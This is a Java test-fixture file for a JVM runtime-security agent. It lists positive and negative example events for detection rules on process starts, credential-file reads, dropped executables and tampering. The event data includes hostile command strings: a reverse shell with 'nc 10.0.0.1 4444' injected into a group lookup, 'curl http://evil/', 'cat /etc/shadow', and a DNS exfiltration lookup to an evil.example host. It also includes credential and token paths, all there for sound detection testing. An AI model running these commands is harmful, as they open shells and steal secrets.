package whorl.rules;

import static java.util.Map.entry;
import static whorl.rules.Events.event;
import static whorl.rules.Events.open;
import static whorl.rules.Events.withStack;
import static whorl.rules.Events.written;
import static whorl.rules.ExampleEvents.REQUEST;

import java.util.List;
import java.util.Map;
import whorl.event.AgentEvent;
import whorl.event.EventType;

/** Examples for rules about processes, files and what disables the recording; by title. */
final class SystemCases {
  static final Map<String, Cases> ALL =
      Map.ofEntries(
          entry(
              "Process Started Past the JDK's Own Method",
              new Cases(
                  List.of(
                      event(EventType.PROCESS_START, "command", "/bin/id", "origin", "direct"),
                      event(EventType.PROCESS_START, "command", "sh", "origin", "unseen")),
                  List.of(
                      started("/bin/id"),
                      event(
                          EventType.PROCESS_START,
                          "command",
                          "/tmp/pty4j-unix-spawn-helper",
                          "origin",
                          "unseen")))),
          entry(
              "Process Started by the Application",
              new Cases(
                  List.of(
                      started("/usr/bin/id", REQUEST),
                      started("/usr/bin/uname -a", "oshi.util.ExecutingCommand.runNative"),
                      probed("uname -a", "org.sqlite.util.ProcessRunner.runAndWaitFor"),
                      probed("uname -o", "evil.Shell.run"),
                      probed(
                          "ps -o stat -p 1 -ef", "org.apache.karaf.jpm.impl.ProcessImpl.isRunning"),
                      probed("ps -o stat -p 1", "evil.Shell.run"),
                      started(
                          "uname -o",
                          "java.lang.ProcessBuilder.start",
                          "evil.Shell.run",
                          "org.sqlite.util.ProcessRunner.runAndWaitFor"),
                      probed("/sbin/ldconfig -p /tmp", "com.sun.jna.NativeLibrary.getLinuxLdPaths"),
                      probed("setsid bash -c id", "org.apache.hadoop.util.Shell.<clinit>"),
                      started(
                          "chmod 04755 /tmp/x",
                          "java.lang.ProcessBuilder.start",
                          "org.apache.hadoop.util.Shell.runCommand",
                          "org.apache.hadoop.fs.RawLocalFileSystem.setPermission"),
                      started(
                          "chmod 0755 /tmp/x",
                          "java.lang.ProcessBuilder.start",
                          "evil.Shell.run",
                          "org.apache.hadoop.fs.RawLocalFileSystem.setPermission"),
                      byOshi("cat /etc/shadow"),
                      byOshi("rpm -qa --pipe /tmp/x"),
                      byOshi("rpm -qa --eval %(/tmp/x)"),
                      byOshi("systemctl list-unit-files -H 10.0.0.1"),
                      byOshi("getent hosts c2VjcmV0.evil.example"),
                      byByteBuddy("/usr/lib/jvm/21/bin/java -cp /tmp/upload.txt"),
                      byByteBuddy("/tmp/java -cp /tmp/byteBuddyAttacher1.jar"),
                      byByteBuddy("/usr/bin/java -cp /tmp/byteBuddyAttacher1.jar:/tmp/x.jar")),
                  List.of(
                      byOshi("rpm -qa"),
                      byOshi("getent passwd"),
                      byOshi("/usr/bin/lscpu -p=cpu,node"),
                      byByteBuddy("/usr/lib/jvm/21/bin/java -cp /tmp/byteBuddyAttacher123.jar"),
                      byByteBuddy("/jdk/bin/java -Dx= -cp /lib/byte-buddy-agent-1.17.5.jar"),
                      started(
                          "uname -r",
                          "oshi.util.ExecutingCommand.runNative",
                          "oshi.software.os.linux.LinuxOperatingSystem.queryBitness"),
                      started("setsid bash -c exit", "org.apache.hadoop.util.Shell.<clinit>"),
                      started(
                          "chmod 0755 /srv/data/numbers",
                          "java.lang.ProcessBuilder.start",
                          "org.apache.hadoop.util.Shell.runCommand",
                          "org.apache.hadoop.fs.RawLocalFileSystem.setPermission"),
                      probed(
                          "ps -o stat -p 9308", "org.apache.karaf.jpm.impl.ProcessImpl.isRunning"),
                      probed("uname -o", "org.sqlite.util.ProcessRunner.runAndWaitFor"),
                      probed("uname -m", "org.sqlite.util.OSInfo.getHardwareName"),
                      probed("uname -m", "org.xerial.snappy.OSInfo.getHardwareName"),
                      probed("/sbin/ldconfig -p", "com.sun.jna.NativeLibrary.getLinuxLdPaths"),
                      probed(
                          "/usr/bin/env sh -c ldd /usr/bin/env | grep -q musl",
                          "org.rocksdb.util.Environment.initIsMuslLibc"),
                      probed("getconf PAGESIZE", "org.apache.spark.util.Utils$.executeCommand")))),
          entry(
              "Shell or Download Tool Started by the Application",
              new Cases(
                  List.of(
                      started("/bin/sh -c id"),
                      started("bash"),
                      started(
                          "bash -c id -gn x; id -Gn x; nc 10.0.0.1 4444",
                          "java.lang.ProcessBuilder.start",
                          "org.apache.hadoop.util.Shell.runCommand",
                          "org.apache.hadoop.security.ShellBasedUnixGroupsMapping.x"),
                      started("/usr/bin/env -i A=b /bin/dash -i"),
                      started("setsid nohup sh"),
                      started("script -qc bash /dev/null"),
                      started("/usr/bin/stdbuf -o0 /bin/bash -i"),
                      started("/lib64/ld-linux-x86-64.so.2 /bin/sh -c id"),
                      started("find /tmp -maxdepth 0 -exec sh -c id ;"),
                      started("sudo -n bash"),
                      started("/tmp/busybox nc 10.0.0.1 4444"),
                      started("curl http://evil/"),
                      started("C:\\Windows\\System32\\cmd.exe /c dir"),
                      event(EventType.PROCESS_START, "command", List.of("/bin/sh", "-c", "echo x")),
                      started("/usr/bin/python3.11 -c 1")),
                  List.of(
                      started(
                          "bash -c id -gn 'u1'; id -Gn 'u1'",
                          "java.lang.ProcessBuilder.start",
                          "org.apache.hadoop.util.Shell.runCommand",
                          "org.apache.hadoop.security.ShellBasedUnixGroupsMapping.x"),
                      started("/usr/bin/ssh-keygen -t ed25519"),
                      started("/usr/bin/convert /srv/sh /srv/x"),
                      started("/opt/bash-tools/render a"),
                      started("/usr/bin/id")))),
          entry(
              "Environment of a Process Read from Proc",
              new Cases(
                  List.of(
                      open("/proc/self/environ"),
                      open("/proc/1/environ"),
                      open("/proc/thread-self/environ"),
                      open("/proc/self/task/9/environ"),
                      open("/proc/self/root/proc/1/environ"),
                      open("…/environ"),
                      link("/tmp/x", "../proc/self/environ"),
                      link("/tmp/x", "/proc/self/environ"),
                      link("/proc/self/environ", "/tmp/x")),
                  List.of(
                      open("/proc/self/cmdline"),
                      open("/app/environ"),
                      open("/app/proc.environ"),
                      open("/proc/self/environment.txt")))),
          entry(
              "Password Hashes Read",
              new Cases(
                  List.of(
                      open("/etc/shadow"),
                      open("/proc/self/root/etc/shadow"),
                      open("/etc/gshadow-"),
                      open("…/shadow"),
                      link("/tmp/x", "../etc/shadow"),
                      link("/tmp/x", "/etc/shadow")),
                  List.of(open("/etc/passwd"), open("/etc/shadow.d/x"), open("/app/shadow")))),
          entry(
              "Service Account Token Read",
              new Cases(
                  List.of(
                      readBy("/var/run/secrets/kubernetes.io/serviceaccount/token", REQUEST),
                      readBy("/run/secrets/kubernetes.io/serviceaccount/token"),
                      readBy("/run/secrets/kubernetes.io/serviceaccount/..data/token"),
                      readBy("/var/run/secrets/eks.amazonaws.com/serviceaccount/token"),
                      link("/tmp/t", "/var/run/secrets/kubernetes.io/serviceaccount/token")),
                  List.of(
                      readBy(
                          "/var/run/secrets/kubernetes.io/serviceaccount/token",
                          "io.fabric8.kubernetes.client.Config.tryServiceAccount"),
                      readBy(
                          "/var/run/secrets/kubernetes.io/serviceaccount/token",
                          "io.kubernetes.client.util.ClientBuilder.cluster"),
                      readBy(
                          "/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
                          "software.amazon.awssdk.auth.credentials.internal."
                              + "WebIdentityTokenCredentialProperties.x"),
                      readBy("/var/run/secrets/kubernetes.io/serviceaccount/ca.crt"),
                      readBy("/var/run/secrets/kubernetes.io/serviceaccount/namespace")))),
          entry(
              "Executable Dropped into a Writable Folder",
              new Cases(
                  List.of(
                      written("/tmp/x.sh"),
                      written("/dev/shm/a/b/payload.SO"),
                      written("/var/tmp/shell.jsp"),
                      written("/run/x.jar"),
                      written("/proc/self/root/tmp/x.class"),
                      renamed("/tmp/x.so"),
                      mode("/tmp/x", "+x"),
                      mode("/tmp/x", "755"),
                      mode("/tmp/x", "100"),
                      mode("/tmp/x", "100711"),
                      writtenBy("/tmp/libnetty_evil.so", REQUEST)),
                  List.of(
                      open("/tmp/x.sh"),
                      written("/tmp/upload_123.tmp"),
                      written("/tmp/hsperfdata_root/1"),
                      written("/data/x.sh"),
                      renamed("/data/x.so"),
                      folderMode("/tmp/spark-1", "+x"),
                      folderMode("/tmp/spark-1", "40755"),
                      mode("/tmp/x", "-x"),
                      mode("/tmp/x", "+w"),
                      mode("/tmp/x", "644"),
                      mode("/tmp/x", "100644"),
                      mode("/app/x", "755"),
                      writtenBy(
                          "/tmp/libnetty_tcnative_linux_x86_6412.so",
                          "io.netty.util.internal.NativeLibraryLoader.load"),
                      writtenBy(
                          "/tmp/snappy-1.1.10-x-libsnappyjava.so",
                          "org.xerial.snappy.SnappyLoader.extractLibraryFile"),
                      writtenBy(
                          "/tmp/opentelemetry-temp-jars156/jarHG.jar",
                          "io.opentelemetry.javaagent.tooling.HelperInjector.injectHelperClasses"),
                      writtenBy(
                          "/tmp/payaramicro-rt1tmp/lib/install/applications/x.jar",
                          "com.sun.enterprise.glassfish.bootstrap.JarUtil.extractJar"),
                      writtenBy(
                          "/tmp/spring-boot-libs-1/x.jar",
                          "org.springframework.boot.loader.launch.JarFileArchive.x")))),
          entry(
              "Code Written to the Application Folder",
              new Cases(
                  List.of(
                      written("/app/lib/x.jar"),
                      written("/app/BOOT-INF/classes/A.class"),
                      event(
                          EventType.FILE_OPEN,
                          "path",
                          "/app/shop.jar",
                          "access",
                          "append",
                          "created",
                          false,
                          "failed",
                          true),
                      renamed("/opt/shop/x.war")),
                  List.of(
                      open("/app/shop.jar"),
                      written("/app/logs/shop.log"),
                      written("/data/x.jar"),
                      writtenBy(
                          "/opt/tomcat/work/A.class",
                          "org.apache.jasper.compiler.JDTCompiler.generateClass")))),
          entry(
              "Heap Dumped by Code in the JVM",
              new Cases(
                  List.of(event(EventType.TAMPER, "what", "heap-dumped", "target", "/tmp/h")),
                  List.of(event(EventType.TAMPER, "what", "recording-dumped")))),
          entry(
              "Diagnostic Command from Code in the JVM",
              new Cases(
                  List.of(
                      event(EventType.TAMPER, "what", "diagnostic-command", "target", "JFR.stop")),
                  List.of(
                      event(
                          EventType.TAMPER, "what", "diagnostic-command", "target", "JFR.check")))),
          entry(
              "Security Property Changed at Run Time",
              new Cases(
                  List.of(
                      securityProperty("jdk.serialFilter"),
                      securityProperty("jdk.tls.disabledAlgorithms"),
                      event(
                          EventType.TAMPER,
                          "what",
                          "security-property-set",
                          "target",
                          "jdk.serialFilter"),
                      authentication("evil.Factory"),
                      authentication("")),
                  List.of(
                      authentication(
                          "com.sun.enterprise.security.jaspic.config.GFAuthConfigFactory"),
                      securityProperty("networkaddress.cache.ttl"),
                      event(
                          EventType.TAMPER,
                          "what",
                          "security-property-set",
                          "target",
                          "networkaddress.cache.ttl")))),
          entry(
              "Recording Tampered with",
              new Cases(
                  List.of(
                      event(EventType.TAMPER, "what", "recording-stopped", "target", "stop"),
                      event(EventType.TAMPER, "what", "hooks-undone", "target", "file")),
                  List.of(
                      securityProperty("networkaddress.cache.ttl"),
                      event(EventType.TAMPER, "what", "recording-dumped", "target", "dump")))));

  private SystemCases() {}

  private static AgentEvent started(String command, String... frames) {
    return withStack(EventType.PROCESS_START, List.of(frames), "command", command, "pid", 7L);
  }

  private static AgentEvent byOshi(String command) {
    return started(
        command,
        "oshi.util.ExecutingCommand.runNative",
        "oshi.software.os.linux.LinuxOperatingSystem.x");
  }

  private static AgentEvent byByteBuddy(String java) {
    return started(
        java
            + " net.bytebuddy.agent.Attacher com.sun.tools.attach.VirtualMachine 7"
            + " /tmp/byteBuddyAgent1.jar false ",
        "java.lang.ProcessBuilder.start",
        "net.bytebuddy.agent.ByteBuddyAgent.installExternal");
  }

  private static AgentEvent link(String path, String target) {
    return event(EventType.FILE_LINK, "path", path, "target", target);
  }

  private static AgentEvent mode(String path, String mode) {
    return event(EventType.FILE_MODE, "path", path, "mode", mode);
  }

  private static AgentEvent folderMode(String path, String mode) {
    return event(EventType.FILE_MODE, "path", path, "mode", mode, "folder", true);
  }

  /** The JDK's frames are above the frame that starts the program. */
  private static AgentEvent probed(String command, String frame) {
    return started(
        command,
        "java.lang.ProcessImpl.start",
        "java.lang.ProcessBuilder.start",
        "java.lang.Runtime.exec",
        frame,
        REQUEST);
  }

  private static AgentEvent renamed(String target) {
    return event(EventType.FILE_RENAME, "path", "/tmp/upload", "target", target);
  }

  private static AgentEvent readBy(String path, String... frames) {
    return withStack(EventType.FILE_OPEN, List.of(frames), "path", path, "access", "read");
  }

  private static AgentEvent writtenBy(String path, String... frames) {
    return withStack(
        EventType.FILE_OPEN, List.of(frames), "path", path, "access", "write", "created", true);
  }

  private static AgentEvent authentication(String factory) {
    return event(
        EventType.TAMPER,
        "what",
        "security-property-set",
        "target",
        "authconfigprovider.factory",
        "detail",
        factory);
  }

  private static AgentEvent securityProperty(String key) {
    return event(EventType.JDK_SECURITY_PROPERTY, "key", key, "value", "x");
  }
}
